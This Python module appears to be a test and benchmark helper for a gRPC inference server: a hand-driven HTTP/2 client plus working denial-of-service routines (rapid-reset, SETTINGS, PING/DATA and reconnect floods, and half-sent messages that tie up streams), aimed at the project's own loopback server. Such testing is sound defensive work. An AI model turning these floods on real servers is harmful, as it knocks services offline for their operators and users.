"""A hand-driven HTTP/2 client over a plain socket, and the attacks of issue 19 made with it.

`RawClient` writes exactly the frames it is given (so it can break every rule a real client
keeps) and reads the server's frames on a thread, recording GOAWAY, RST_STREAM, gRPC statuses
and the server's WINDOW_UPDATEs (which `send_body` honours, so large messages can be sent within
flow control). It needs no generated protobuf messages: callers pass message bytes. Used by
tests/e2e/test_grpc_attacks.py and benchmarks/attacks.py.

Each client can connect from its own loopback address (127.0.0.2, 127.0.0.3, ...): the server
keeps its reset budget per client address, so attackers on their own addresses leave the
well-behaved clients on 127.0.0.1 (and each other) untouched.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from urllib.parse import unquote

import hpack

from modelport.frontends.grpc.http2 import frames as f
from modelport.frontends.grpc.http2.frames import ErrorCode, Flag, FrameType, Setting

MODEL_INFER = b"/inference.GRPCInferenceService/ModelInfer"
SERVER_LIVE = b"/inference.GRPCInferenceService/ServerLive"
FRAME_SIZE = f.DEFAULT_FRAME_SIZE
PING = f.frame(FrameType.PING, 0, 0, b"attacker")


def request_fields(
    path: bytes, extra: tuple[tuple[bytes, bytes], ...] = ()
) -> list[tuple[bytes, bytes]]:
    return [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path),
        (b":authority", b"127.0.0.1"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        *extra,
    ]


def grpc_message(body: bytes) -> bytes:
    """A length-prefixed gRPC message (not compressed)."""
    return b"\x00" + len(body).to_bytes(4, "big") + body


@dataclass
class StreamSeen:
    """What the server sent on one stream."""

    headers: list[dict[bytes, bytes]] = field(default_factory=list)
    body_bytes: int = 0
    reset: int | None = None
    window: int = 0
    """Increments of the server's WINDOW_UPDATEs for this stream."""

    @property
    def status(self) -> tuple[int, str] | None:
        """(grpc-status, grpc-message) once the call has ended."""
        for block in self.headers:
            if b"grpc-status" in block:
                message = unquote(block.get(b"grpc-message", b"").decode())
                return int(block[b"grpc-status"]), message
        return None

    @property
    def ended(self) -> bool:
        return self.reset is not None or self.status is not None


class RawClient:
    """One HTTP/2 connection to the server, driven frame by frame."""

    def __init__(
        self,
        port: int,
        source: str = "127.0.0.1",
        *,
        greet: bool = True,
        settings: dict[Setting, int] | None = None,
        timeout: float = 10.0,
    ) -> None:
        """`greet`: send the preface and SETTINGS (`settings`) and wait for the server's."""
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.bind((source, 0))
        self.sock.settimeout(timeout)
        self.sock.connect(("127.0.0.1", port))
        self.started = time.monotonic()
        self.encoder = hpack.Encoder()
        self._decoder = hpack.Decoder()
        self._changed = threading.Condition()
        self.frames_sent = 0
        self.bytes_sent = 0
        self.goaway: tuple[int, int, bytes] | None = None
        """(last stream id, error code, debug data) of the server's GOAWAY."""
        self.goaway_after: tuple[int, float] | None = None
        """(frames we had sent, seconds since connecting) when the GOAWAY came."""
        self.closed = False
        """The server closed the connection (and everything it sent before has been read)."""
        self.refused = False
        """A write failed: the server has closed, or reset, the connection."""
        self.closed_after: float | None = None
        self.server_settings: dict[int, int] | None = None
        self.kinds: list[int] = []  # the type of every frame the server sent, in order
        self.pings_acked = 0
        self.streams: dict[int, StreamSeen] = {}
        self._window = f.DEFAULT_WINDOW  # ours to send into: the connection's
        self._sent_on: dict[int, int] = {}  # DATA bytes sent per stream
        self._sent_total = 0
        self._next_stream = 1
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()
        if greet:
            self.send(f.PREFACE + f.settings(settings or {}))
            self.wait_for(lambda: self.server_settings is not None or self.closed, timeout)

    # -- sending ----------------------------------------------------------------------------------

    def send(self, data: bytes, frames: int = 1) -> bool:
        """Write raw bytes (`frames` frames' worth); False once the server has closed."""
        if self.closed or self.refused:
            return False
        try:
            self.sock.sendall(data)
        except OSError:  # the server closed; its last frames may still be being read
            self.refused = True
            return False
        self.frames_sent += frames
        self.bytes_sent += len(data)
        return True

    def new_stream(self) -> int:
        stream, self._next_stream = self._next_stream, self._next_stream + 2
        return stream

    def headers_frame(
        self,
        stream: int,
        path: bytes = MODEL_INFER,
        *,
        end: bool = False,
        fields: list[tuple[bytes, bytes]] | None = None,
    ) -> bytes:
        block = self.encoder.encode(fields if fields is not None else request_fields(path))
        flags = Flag.END_HEADERS | (Flag.END_STREAM if end else 0)
        return f.frame(FrameType.HEADERS, flags, stream, block)

    def call(self, path: bytes, message: bytes, stream: int | None = None) -> int:
        """A whole unary call (HEADERS, the message, END_STREAM) within flow control."""
        stream = self.new_stream() if stream is None else stream
        self.send(self.headers_frame(stream, path))
        self.send_body(stream, grpc_message(message))
        return stream

    def send_body(
        self, stream: int, body: bytes, *, end: bool = True, give_up: float = 30.0
    ) -> bool:
        """Send `body` as DATA frames as the server's windows allow (END_STREAM on the last if
        `end`); stops early, returning False, if the stream or the connection ends."""
        pos = 0
        while pos < len(body) or (end and pos == 0 == len(body)):
            with self._changed:
                ready = self._changed.wait_for(
                    lambda: (
                        self.closed
                        or self.stream(stream).ended
                        or min(self._window, self._stream_room(stream)) > 0
                    ),
                    give_up,
                )
                if not ready or self.closed or self.stream(stream).ended:
                    return False
                size = min(FRAME_SIZE, len(body) - pos, self._window, self._stream_room(stream))
                self._window -= size
                self._sent_on[stream] = self._sent_on.get(stream, 0) + size
            last = end and pos + size == len(body)
            piece = body[pos : pos + size]
            if not self.send(
                f.frame(FrameType.DATA, Flag.END_STREAM if last else 0, stream, piece)
            ):
                return False
            pos += size
            if last:
                break
        return True

    def _stream_room(self, stream: int) -> int:
        initial = (self.server_settings or {}).get(Setting.INITIAL_WINDOW_SIZE, f.DEFAULT_WINDOW)
        return initial + self.stream(stream).window - self._sent_on.get(stream, 0)

    # -- what the server sent ---------------------------------------------------------------------

    def stream(self, stream: int) -> StreamSeen:
        return self.streams.setdefault(stream, StreamSeen())

    def wait_for(self, condition: Callable[[], bool], timeout: float) -> bool:
        with self._changed:
            return self._changed.wait_for(condition, timeout)

    def wait_closed(self, timeout: float) -> bool:
        return self.wait_for(lambda: self.closed, timeout)

    def __enter__(self) -> RawClient:
        return self

    def __exit__(self, *_: object) -> None:
        self.close()

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.shutdown(socket.SHUT_RDWR)
        self.sock.close()
        self._reader.join(5)

    def _mark_closed(self) -> None:
        with self._changed:
            if not self.closed:
                self.closed = True
                self.closed_after = time.monotonic() - self.started
            self._changed.notify_all()

    def _read(self) -> None:
        buffer = bytearray()
        while True:
            try:
                chunk = self.sock.recv(1 << 20)
            except TimeoutError:
                continue
            except OSError:
                break
            if not chunk:
                break
            buffer += chunk
            pos = 0
            with self._changed:
                while len(buffer) - pos >= 9:
                    high, low, kind, flags, stream_id = f.HEADER.unpack_from(buffer, pos)
                    length = (high << 16) | low
                    if len(buffer) - pos - 9 < length:
                        break
                    payload = bytes(buffer[pos + 9 : pos + 9 + length])
                    self._on_frame(kind, flags, stream_id & 0x7FFFFFFF, payload)
                    pos += 9 + length
                self._changed.notify_all()
            del buffer[:pos]
        self._mark_closed()

    def _on_frame(self, kind: int, flags: int, stream_id: int, payload: bytes) -> None:
        self.kinds.append(kind)
        if kind == FrameType.GOAWAY:
            last, code = struct.unpack(">II", payload[:8])
            self.goaway = (last & 0x7FFFFFFF, code, payload[8:])
            self.goaway_after = (self.frames_sent, time.monotonic() - self.started)
        elif kind == FrameType.SETTINGS and not flags & Flag.ACK:
            values = f.parse_settings(payload)
            self.server_settings = {**(self.server_settings or {}), **dict(values)}
        elif kind == FrameType.WINDOW_UPDATE:
            increment = int.from_bytes(payload, "big") & 0x7FFFFFFF
            if stream_id == 0:
                self._window += increment
            else:
                self.stream(stream_id).window += increment
        elif kind == FrameType.PING and flags & Flag.ACK:
            self.pings_acked += 1
        elif kind == FrameType.RST_STREAM:
            self.stream(stream_id).reset = int.from_bytes(payload, "big")
        elif kind == FrameType.HEADERS:
            block = f.unpad(memoryview(payload)) if flags & Flag.PADDED else payload
            decoded = self._decoder.decode(bytes(block), raw=True)
            self.stream(stream_id).headers.append(dict(decoded))
        elif kind == FrameType.DATA:
            self.stream(stream_id).body_bytes += len(payload)


# -- the attacks ---------------------------------------------------------------------------------


@dataclass
class Outcome:
    """How one attacking connection ended."""

    frames: int
    """Frames the attacker sent on it."""
    seconds: float
    goaway: tuple[int, int, bytes] | None
    goaway_after: tuple[int, float] | None
    closed: bool

    @property
    def code(self) -> int | None:
        return None if self.goaway is None else self.goaway[1]

    def describe(self) -> str:
        if self.goaway is None or self.goaway_after is None:
            return "closed without GOAWAY" if self.closed else "no GOAWAY"
        frames, seconds = self.goaway_after
        name = ErrorCode(self.goaway[1]).name
        reason = self.goaway[2].decode(errors="replace")
        return f"GOAWAY {name} '{reason}' after {frames} frames / {seconds:.2f} s"


def outcome_of(client: RawClient) -> Outcome:
    return Outcome(
        client.frames_sent,
        time.monotonic() - client.started,
        client.goaway,
        client.goaway_after,
        client.closed,
    )


def flood(
    client: RawClient,
    make_batch: Callable[[int], tuple[bytes, int]],
    seconds: float,
    max_frames: int | None = None,
) -> Outcome:
    """Send `make_batch(i)` (bytes, frames in them) over and over until the server sends GOAWAY
    or closes, `seconds` pass, or `max_frames` are sent; then wait briefly for the server's
    last frames."""
    deadline = time.monotonic() + seconds
    index = 0
    while client.goaway is None and not client.refused and time.monotonic() < deadline:
        if max_frames is not None and client.frames_sent >= max_frames:
            break
        data, frames = make_batch(index)
        index += 1
        client.send(data, frames)
    client.wait_for(lambda: client.closed, 2.0)
    return outcome_of(client)


def rapid_reset(
    client: RawClient, seconds: float, *, with_data: bool, batch: int = 20, **limits: int
) -> Outcome:
    """HEADERS (+ a 1-byte DATA) + RST_STREAM(CANCEL), one stream after another."""
    first = client.new_stream()
    client.send(client.headers_frame(first) + f.rst_stream(first, ErrorCode.CANCEL), 2)
    block = client.encoder.encode(request_fields(MODEL_INFER))  # all indexed from now on

    def make_batch(_: int) -> tuple[bytes, int]:
        parts = []
        for _ in range(batch):
            stream = client.new_stream()
            parts.append(f.frame(FrameType.HEADERS, Flag.END_HEADERS, stream, block))
            if with_data:
                parts.append(f.frame(FrameType.DATA, 0, stream, b"\x00"))
            parts.append(f.rst_stream(stream, ErrorCode.CANCEL))
        return b"".join(parts), batch * (3 if with_data else 2)

    return flood(client, make_batch, seconds, **limits)


def settings_flood(client: RawClient, seconds: float, **limits: int) -> Outcome:
    """SETTINGS frames of the largest size the server takes from a client that has not seen
    its SETTINGS_MAX_FRAME_SIZE (16 KiB: 2,730 settings each), repeating one unknown setting."""
    count = FRAME_SIZE // 6
    payload = struct.pack(">HI", 0x99, 1) * count
    big = f.frame(FrameType.SETTINGS, 0, 0, payload)
    return flood(client, lambda _: (big, 1), seconds, **limits)


def ping_data_flood(client: RawClient, seconds: float, batch: int = 50, **limits: int) -> Outcome:
    """A call left open with a message declared 8 MiB, then PINGs each followed by a 1-byte DATA
    of that message."""
    stream = client.new_stream()
    start = b"\x00" + (8 << 20).to_bytes(4, "big")
    client.send(client.headers_frame(stream) + f.frame(FrameType.DATA, 0, stream, start), 2)
    pair = PING + f.frame(FrameType.DATA, 0, stream, b"x")
    chunk = pair * batch
    return flood(client, lambda _: (chunk, 2 * batch), seconds, **limits)


def reconnect_flood(
    port: int, source: str, connections: int, resets_each: int, seconds: float = 30.0
) -> list[Outcome]:
    """Many short connections, each opening and resetting `resets_each` streams and then asking
    for a PING's answer (to know the server got through them) before it leaves."""
    outcomes = []
    deadline = time.monotonic() + seconds
    for _ in range(connections):
        if time.monotonic() > deadline:
            break
        client = RawClient(port, source)
        try:
            parts = []
            for _ in range(resets_each):
                stream = client.new_stream()
                parts += [client.headers_frame(stream), f.rst_stream(stream, ErrorCode.CANCEL)]
            client.send(b"".join(parts) + PING, 2 * resets_each + 1)
            client.wait_for(lambda c=client: c.pings_acked > 0 or c.closed, 10.0)
            outcomes.append(outcome_of(client))
        finally:
            client.close()
    return outcomes


def unfinished_messages(
    client: RawClient,
    streams: int,
    size: int,
    path: bytes = MODEL_INFER,
    deadline: float | None = None,
) -> list[int]:
    """Open `streams` calls, one after another, each declaring a `size`-byte message and sending
    all of it but its last byte (within flow control); none is opened after `deadline`
    (time.monotonic). Returns the stream ids."""
    opened = []
    body = grpc_message(b"\x00" * size)[:-1]
    for _ in range(streams):
        if deadline is not None and time.monotonic() > deadline:
            break
        stream = client.new_stream()
        if not client.send(client.headers_frame(stream, path)):
            break
        client.send_body(stream, body, end=False)
        opened.append(stream)
    return opened
